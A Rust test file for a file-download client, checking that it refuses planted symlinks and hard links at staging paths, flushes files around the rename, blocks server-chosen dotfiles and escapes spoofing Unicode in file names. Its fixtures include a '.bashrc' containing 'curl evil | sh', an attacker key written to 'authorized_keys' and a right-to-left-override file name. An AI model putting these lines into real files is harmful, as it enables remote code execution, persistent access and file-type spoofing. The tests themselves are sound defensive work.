//! What lands at PATH is exactly what was verified, and survives a power
//! cut (issue #15, client side): the staging files `PATH.part` and
//! `PATH.part.sha256` are never followed through a symlink nor written
//! through one, their version record decides every resume, the files are
//! flushed before and after the rename, and names a server chooses never
//! become dotfiles or spoof one another on a terminal.
mod common;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use common::*;

/// Something planted at a staging path before `get -o dl/report.txt`.
type Plant = fn(&Scratch);

#[test]
fn planted_staging_files_are_refused_and_the_victim_is_untouched() {
    let rows: &[(&str, Plant)] = &[
        ("a symlink at PATH.part", |t| {
            symlink(t.join("victim.db"), t.join("dl/report.txt.part")).unwrap()
        }),
        ("a symlink at PATH.part.sha256", |t| {
            symlink(t.join("victim.db"), t.join("dl/report.txt.part.sha256")).unwrap()
        }),
        ("a hard link at PATH.part", |t| {
            fs::hard_link(t.join("victim.db"), t.join("dl/report.txt.part")).unwrap()
        }),
        ("a FIFO at PATH.part", |t| {
            let run = run_program("mkfifo", &t.path, &["dl/report.txt.part"], b"");
            run.expect_code(0);
        }),
        ("a directory at PATH.part", |t| {
            fs::create_dir(t.join("dl/report.txt.part")).unwrap()
        }),
    ];
    let data = random_bytes(300_000, 71);
    for (what, plant) in rows {
        let (t, server) = serve("planted", &[("report.txt", &data)], &[]);
        let victim = b"precious database, not to be truncated".to_vec();
        t.write("victim.db", &victim);
        plant(&t);
        let run = tcpfetch(
            &t.path,
            &["get", &server.addr, "report.txt", "-o", "dl/report.txt"],
        );
        assert_eq!(run.code(), 1, "{what}: {run}");
        assert!(
            run.stderr().contains("refusing to use 'dl/report.txt.part"),
            "{what}: {run}"
        );
        assert_eq!(fs::read(t.join("victim.db")).unwrap(), victim, "{what}");
        assert!(
            fs::symlink_metadata(t.join("dl/report.txt")).is_err(),
            "{what}: PATH was created {run}"
        );
    }
}

#[test]
fn an_empty_or_missing_version_record_starts_over() {
    // The .part holds the start of an older version; the server's file has
    // changed since. An empty record (what a power cut can leave) or none
    // at all says nothing about the version: the bytes must not be spliced
    // to the new version's tail.
    let old = random_bytes(400_000, 72);
    let new = random_bytes(400_000, 73);
    for record in [Some(&b""[..]), None] {
        let (t, server) = serve("no-record", &[("x.bin", &new)], &[]);
        t.write("dl/x.bin.part", &old[..100_000]);
        if let Some(text) = record {
            t.write("dl/x.bin.part.sha256", text);
        }
        let run = tcpfetch(&t.join("dl"), &["get", &server.addr, "x.bin"]);
        run.expect_code(0);
        assert!(run.stderr().contains("starting over"), "{run}");
        server.wait_for_log("\"GET +mtime 0 x.bin\" ok 400000");
        assert!(fs::read(t.join("dl/x.bin")).unwrap() == new, "{run}");
        assert!(!t.join("dl/x.bin.part.sha256").exists(), "{run}");
    }
}

/// The system calls `tcpfetch ARGS` makes that put files on disk, one a
/// line, as strace shows them.
fn disk_calls(cwd: &Path, args: &[&str]) -> Vec<String> {
    let log = cwd.join("strace.log");
    let mut full = vec![
        "-f",
        "-qq",
        "-o",
        log.to_str().unwrap(),
        "-e",
        "trace=fsync,fdatasync,sync_file_range,rename,renameat,renameat2",
        BIN,
    ];
    full.extend_from_slice(args);
    run_program("strace", cwd, &full, b"").expect_code(0);
    let text = fs::read_to_string(&log).unwrap();
    fs::remove_file(&log).unwrap();
    text.lines().map(String::from).collect()
}

#[test]
fn a_download_is_flushed_before_and_after_its_rename_unless_no_fsync() {
    // strace is the oracle: a power cut cannot be staged in a test, but
    // the order of the calls that make the file durable can be watched.
    let data = random_bytes(20 << 20, 74);
    let (t, server) = serve("durable", &[("x.bin", &data)], &[]);
    let dl = t.join("dl");
    let calls = disk_calls(&dl, &["get", &server.addr, "x.bin", "-q"]);
    let at = |what: &str| {
        calls
            .iter()
            .position(|l| l.contains(what))
            .unwrap_or_else(|| panic!("no {what} in {calls:#?}"))
    };
    let rename = calls
        .iter()
        .position(|l| {
            l.contains("rename") && l.contains("\"x.bin.part\", ") && !l.contains("sha256")
        })
        .unwrap_or_else(|| panic!("no rename of x.bin.part in {calls:#?}"));
    // Writeback began while the bytes arrived, the .part was flushed
    // before its rename, and the directory after it.
    assert!(at("sync_file_range(") < rename, "{calls:#?}");
    assert!(
        calls[..rename].iter().any(|l| l.contains("fdatasync(")),
        "{calls:#?}"
    );
    assert!(
        calls[rename..].iter().any(|l| l.contains("fsync(")),
        "{calls:#?}"
    );
    // The version record went through a temporary file and a rename.
    assert!(
        calls
            .iter()
            .any(|l| l.contains("\"x.bin.part.sha256.tmp\"")),
        "{calls:#?}"
    );
    assert!(fs::read(dl.join("x.bin")).unwrap() == data);

    let calls = disk_calls(
        &dl,
        &["get", &server.addr, "x.bin", "-q", "--force", "--no-fsync"],
    );
    assert!(
        !calls
            .iter()
            .any(|l| l.contains("sync(") || l.contains("sync_file_range(")),
        "--no-fsync flushed: {calls:#?}"
    );
    assert!(fs::read(dl.join("x.bin")).unwrap() == data);
}

#[test]
fn get_all_is_durable_too() {
    let (t, server) = serve(
        "durable-all",
        &[("a/b.txt", b"bee"), ("c.txt", b"sea")],
        &[],
    );
    let calls = disk_calls(&t.path, &["get", &server.addr, "--all", "-o", "m", "-q"]);
    let flushes = calls.iter().filter(|l| l.contains("fdatasync(")).count();
    // Each file's bytes and its version record.
    assert!(flushes >= 4, "{calls:#?}");
    assert_eq!(fs::read(t.join("m/a/b.txt")).unwrap(), b"bee");
}

#[test]
fn get_all_refuses_dot_names_unless_hidden() {
    let files: &[(&str, &[u8])] = &[
        (".bashrc", b"curl evil | sh"),
        (".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker"),
        ("sub/.profile", b"evil"),
        ("plain.txt", b"fine"),
    ];
    let (t, server) = serve("dot-names", files, &["--hidden"]);
    let run = tcpfetch(&t.path, &["get", &server.addr, "--all", "-o", "home", "-q"]);
    run.expect_code(1);
    assert!(run.stderr().contains("--hidden"), "{run}");
    assert_eq!(fs::read(t.join("home/plain.txt")).unwrap(), b"fine");
    for (name, _) in &files[..3] {
        assert!(!t.join("home").join(name).exists(), "{name} written: {run}");
    }
    assert!(!t.join("home/.ssh").exists(), "{run}");

    let run = tcpfetch(
        &t.path,
        &["get", &server.addr, "--all", "-o", "home", "-q", "--hidden"],
    );
    run.expect_code(0);
    for (name, data) in files {
        assert_eq!(fs::read(t.join("home").join(name)).unwrap(), *data, "{run}");
    }
}

#[test]
fn get_legacy_never_saves_under_a_dot_name_the_server_lists() {
    let t = Scratch::new("legacy-dot");
    t.write("srv/.bashrc", b"curl evil | sh");
    t.write("srv/sub/x.txt", b"in a directory");
    let (_server, legacy) = Server::start_legacy(&t.join("srv"), &["--hidden"]);
    let run = tcpfetch(&t.path, &["get", "--legacy", &legacy, "1", "-q"]);
    run.expect_code(0);
    assert!(!t.join(".bashrc").exists(), "{run}");
    assert_eq!(fs::read(t.join("file-1")).unwrap(), b"curl evil | sh");
    // Only the last component of a listed path is ever a local name.
    let run = tcpfetch(&t.path, &["get", "--legacy", &legacy, "2", "-q"]);
    run.expect_code(0);
    assert_eq!(fs::read(t.join("x.txt")).unwrap(), b"in a directory");
    assert!(!t.join("sub").exists(), "{run}");
}

#[test]
fn list_escapes_bidirectional_and_invisible_characters() {
    // U+202E makes "report\u{202e}fdp.exe" read as "reportexe.pdf".
    let names = [
        "report\u{202e}fdp.exe",
        "a\u{2028}b",
        "\u{feff}c.txt",
        "d\u{200b}.txt",
    ];
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (*n, &b"x"[..])).collect();
    let (t, server) = serve("bidi", &files, &[]);
    let run = tcpfetch(&t.path, &["list", &server.addr]);
    run.expect_code(0);
    let out = run.stdout();
    for raw in ['\u{202e}', '\u{2028}', '\u{feff}', '\u{200b}'] {
        assert!(!out.contains(raw), "raw U+{:04X} in {out:?}", raw as u32);
    }
    // get --all names each file on stderr (the summary line, the "already
    // here" line on a second run) and escapes them the same way.
    for _ in 0..2 {
        let run = tcpfetch(&t.path, &["get", &server.addr, "--all", "-o", "m"]);
        run.expect_code(0);
        let err = run.stderr();
        for raw in ['\u{202e}', '\u{2028}', '\u{feff}', '\u{200b}'] {
            assert!(!err.contains(raw), "raw U+{:04X} in {run}", raw as u32);
        }
        assert!(err.contains("report\\u{202e}fdp.exe"), "{run}");
    }
    for shown in [
        "report\\u{202e}fdp.exe",
        "a\\u{2028}b",
        "\\u{feff}c.txt",
        "d\\u{200b}.txt",
    ] {
        assert!(out.contains(shown), "{shown} not in {out:?}");
    }
    // --json as well (read on a terminal as often as the table), with
    // JSON's own escapes: the same names once parsed. It printed them raw.
    let run = tcpfetch(&t.path, &["list", &server.addr, "--json"]);
    run.expect_code(0);
    let json = run.stdout();
    for raw in ['\u{202e}', '\u{2028}', '\u{feff}', '\u{200b}'] {
        assert!(!json.contains(raw), "raw U+{:04X} in {json:?}", raw as u32);
    }
    for shown in [
        "report\\u202efdp.exe",
        "a\\u2028b",
        "\\ufeffc.txt",
        "d\\u200b.txt",
    ] {
        assert!(json.contains(shown), "{shown} not in {json:?}");
    }
}
